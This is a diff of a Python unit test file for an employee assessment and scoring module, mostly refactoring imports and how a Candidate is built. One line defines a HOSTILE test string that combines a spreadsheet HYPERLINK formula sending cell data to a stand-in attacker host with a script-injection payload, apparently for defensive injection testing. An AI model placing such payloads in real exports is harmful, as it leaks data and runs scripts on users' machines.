@@ -8,14 +8,15 @@ from lianbing.domain.assessment.assessment import (
     Assessment,
     Candidate,
     Level,
-    MarkedItem,
     Scheme,
     assess,
 )
+from lianbing.domain.assessment.marked_items import MarkedItem
 from lianbing.domain.assessment.sources import skill_part
 from lianbing.domain.drills.papers import Basis, Employee
 from lianbing.domain.items.question import Skill
 from lianbing.domain.kernel.periods import Period, Span
+from tests.unit.objects import sittings
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
 SCHEME = Scheme(
@@ -82,9 +83,8 @@ def candidate(number: str, name: str, points: str, first_entry: int, missing: tu
                 clauses=clauses,
             )
         )
-    return Candidate(
-        Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组"), tuple(marks), missing
-    )
+    person = Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组")
+    return Candidate(employee=person, marks=tuple(marks), sittings=sittings(marks, missing))
 
 
 def sample() -> Assessment:
